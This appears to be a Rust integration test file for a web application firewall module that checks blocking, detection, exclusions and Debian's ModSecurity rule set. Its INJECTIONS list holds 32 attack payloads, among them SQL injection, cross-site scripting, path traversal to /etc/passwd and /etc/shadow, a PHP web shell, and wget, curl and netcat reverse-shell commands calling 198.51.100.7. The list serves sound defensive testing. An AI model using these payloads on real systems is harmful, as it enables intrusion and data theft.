//! The web application firewall through the whole network part: documents, worker, verdicts, events, status.
use super::lab::{Lab, PORT, SERVER, SOON, able, counter, exchange, get, plan, start, until};
use sakimori_agent::network::{NetworkPlan, RuleFile, WafPlan};
use sakimori_model::{FailureResponse, Mode, PortRange};
use sakimori_modules::web_application_firewall::WebAttack;
use sakimori_protocol::{ModuleState, ModuleStatus};
use sakimori_waf::{Upload, unpack};
use std::path::{Path, PathBuf};

const RULES: &str = r#"SecRule ARGS "@contains union select" "id:7,phase:2,deny,log,t:lowercase,msg:'SQL injection',severity:2""#;

fn with(settings: &str, rules: &str) -> NetworkPlan {
    let document = serde_json::json!({"files": [{"name": "a.conf", "text": rules}]}).to_string();
    let mut plan = plan(Mode::Off, FailureResponse::Open, "");
    plan.settings.answer_page = true;
    plan.waf = WafPlan {
        settings: serde_json::from_str(settings).unwrap(),
        rules: vec![RuleFile { name: "mine".into(), text: document.into_bytes() }],
    };
    plan
}

fn status(network: &sakimori_agent::network::Network) -> ModuleStatus {
    let found = network.statuses().into_iter().find(|status| status.module == "web-application-firewall");
    found.unwrap()
}

const ATTACK: &str = "/s?id=1+UNION+SELECT+2";

#[test]
fn an_injection_gets_the_page_and_visitors_are_served() {
    if !able() {
        return;
    }
    let lab = Lab::new();
    let (network, events) = start();
    network.apply(with(r#"{"mode":"prevent"}"#, RULES)).unwrap();
    assert_eq!(network.inspected_ports(), [PortRange::single(PORT)], "although intrusion prevention is off");
    let served = lab.served();
    assert!(lab.as_client(|| get(SERVER, "/s?id=green+tea", SOON)).unwrap().contains("200 OK"));
    let page = lab.as_client(|| get(SERVER, ATTACK, SOON)).unwrap();
    assert!(page.starts_with("HTTP/1.1 403") && page.contains("SKM-"), "{page}");
    assert_eq!(lab.served() - served, 1, "the injection did not arrive");
    let told = || -> Vec<WebAttack> {
        events.lock().unwrap().iter().filter_map(sakimori_protocol::Event::read).collect()
    };
    assert!(until(SOON, || !told().is_empty()));
    let told = told();
    let [event] = told.as_slice() else { panic!("{told:?}") };
    assert!(page.contains(&event.incident), "the page names the event");
    assert_eq!((event.rule_set.as_str(), event.decided_by, event.would_block), ("mine", 7, true));
    assert_eq!(event.rules[0].targets[0].variable, "ARGS:id");
    let of = status(&network);
    assert_eq!((of.state, of.rules > 0), (ModuleState::Active, true), "{of:?}");
    assert!(until(SOON, || status(&network).counters.contains(&("waf-blocked".to_owned(), 1))));

    // Detection tells and lets pass; an exclusion takes effect; bad rules keep the former ones.
    network.apply(with(r#"{"mode":"detect"}"#, RULES)).unwrap();
    assert!(lab.as_client(|| get(SERVER, ATTACK, SOON)).unwrap().contains("200 OK"));
    assert!(until(SOON, || events.lock().unwrap().iter().any(|event| event.action == "detected")));
    let excluded = r#"{"mode":"prevent","exclusions":{"a":{"rule":7,"variable":"ARGS:id","path":"/s"}}}"#;
    network.apply(with(excluded, RULES)).unwrap();
    assert!(lab.as_client(|| get(SERVER, ATTACK, SOON)).unwrap().contains("200 OK"));
    assert!(lab.as_client(|| get(SERVER, "/s?other=union+select", SOON)).unwrap().contains("403"));
    let refused =
        network.apply(with(r#"{"mode":"prevent"}"#, "SecRule ARGS \"@rx (\" \"id:8,phase:2,deny\""));
    assert!(matches!(refused, Err(sakimori_agent::network::ApplyError::Rules(_))), "{refused:?}");
    assert!(
        lab.as_client(|| get(SERVER, ATTACK, SOON)).unwrap().contains("200 OK"),
        "the former one is in force"
    );
    assert_eq!(counter(&network, "worker-restarts"), 0);

    // Without a rule set it is said, and nothing is queued.
    let mut bare = with(r#"{"mode":"prevent"}"#, RULES);
    bare.waf.rules.clear();
    network.apply(bare).unwrap();
    let of = status(&network);
    assert_eq!((of.state, of.reasons), (ModuleState::Degraded, vec!["no-rule-set".to_owned()]));
    assert!(network.inspected_ports().is_empty());
    network.stop();
    assert!(lab.as_client(|| get(SERVER, ATTACK, SOON)).unwrap().contains("200 OK"), "nothing of us is left");
}

/// Debian's rule set with its settings.
fn debian_rules() -> RuleFile {
    let installed = Path::new("/usr/share/modsecurity-crs/rules").is_dir();
    assert!(installed, "Debian's modsecurity-crs is missing: `cargo xtask setup` installs it");
    let files = |folder: &str| -> Vec<PathBuf> {
        std::fs::read_dir(Path::new(folder)).unwrap().map(|entry| entry.unwrap().path()).collect()
    };
    let paths = [files("/usr/share/modsecurity-crs/rules"), files("/etc/modsecurity/crs")].concat();
    let contents: Vec<(String, Vec<u8>)> = paths
        .iter()
        .filter(|path| path.is_file())
        .map(|path| (path.display().to_string(), std::fs::read(path).unwrap()))
        .collect();
    let uploads: Vec<Upload<'_>> = contents.iter().map(|(name, content)| Upload { name, content }).collect();
    let rules = unpack(&uploads).unwrap();
    assert_eq!(rules.version(), Some("3.3.4"));
    RuleFile { name: "debian".into(), text: rules.to_text().unwrap().into_bytes() }
}

/// Injections into queries: SQL, scripts, files, commands.
const INJECTIONS: [&str; 32] = [
    "1%27%20OR%20%271%27=%271",
    "1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
    "1;DROP%20TABLE%20users",
    "1%27%20AND%20SLEEP(5)--%20-",
    "-1%20UNION%20ALL%20SELECT%20NULL,@@version--",
    "1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20",
    "admin%27%20or%201=1--%20-",
    "1%27%20AND%20(SELECT%201%20FROM%20information_schema.tables)--",
    "1%20or%20benchmark(10000000,md5(1))",
    "1%27;EXEC%20xp_cmdshell(%27dir%27)--",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%3Csvg/onload=alert(1)%3E",
    "javascript:alert(document.cookie)",
    "%22%3E%3Cscript%20src=//evil.test/x.js%3E%3C/script%3E",
    "%3Ciframe%20src=javascript:alert(1)%3E",
    "%3Cbody%20onload=alert(1)%3E",
    "%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/proc/self/environ",
    "..%5c..%5cwindows%5cwin.ini",
    "http://198.51.100.7/shell.php?",
    "php://filter/convert.base64-encode/resource=index",
    ";cat%20/etc/passwd",
    "%7C%20id;%20uname%20-a",
    "$(wget%20http://198.51.100.7/x%20-O-)",
    "%60curl%20http://198.51.100.7%60",
    "127.0.0.1;nc%20-e%20/bin/sh%20198.51.100.7%204444",
    "%3C?php%20system($_GET[0]);?%3E",
    "()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id",
];

/// What people send.
const ORDINARY: [&str; 16] = [
    "green%20tea",
    "%E7%B7%91%E8%8C%B6%20%E6%8A%B9%E8%8C%B6",
    "O%27Brien",
    "select%20a%20colour",
    "union%20station%20hotels",
    "Rock%20%26%20Roll",
    "50%25%20off",
    "C%2B%2B%20for%20beginners",
    "2026-12-01",
    "hanako@example.org",
    "https://example.org/page",
    "what%20is%201%20%2B%201%3F",
    "Caf%C3%A9%20cr%C3%A8me",
    "drop%20me%20a%20line",
    "order%20by%20phone",
    "Tom%20%3C3%20Jerry",
];

#[test]
fn debians_rule_set_blocks_injections_and_nothing_that_people_send() {
    if !able() {
        return;
    }
    let lab = Lab::new();
    let (network, _events) = start();
    let mut plan = with(r#"{"mode":"prevent"}"#, RULES);
    plan.waf.rules = vec![debian_rules()];
    network.apply(plan).unwrap();
    let of = status(&network);
    assert!(of.rules > 500, "{of:?}");
    let get = |value: &str| {
        let request = format!(
            "GET /shop?q={value} HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
        );
        lab.as_client(|| exchange(SERVER, request.as_bytes(), SOON)).unwrap()
    };
    let passed: Vec<&str> =
        INJECTIONS.into_iter().filter(|value| !get(value).starts_with("HTTP/1.1 403")).collect();
    assert_eq!(passed, [""; 0], "injections that pass");
    let blocked: Vec<&str> = ORDINARY.into_iter().filter(|value| !get(value).contains("200 OK")).collect();
    assert_eq!(blocked, [""; 0], "what people send and is blocked");
    network.stop();
}
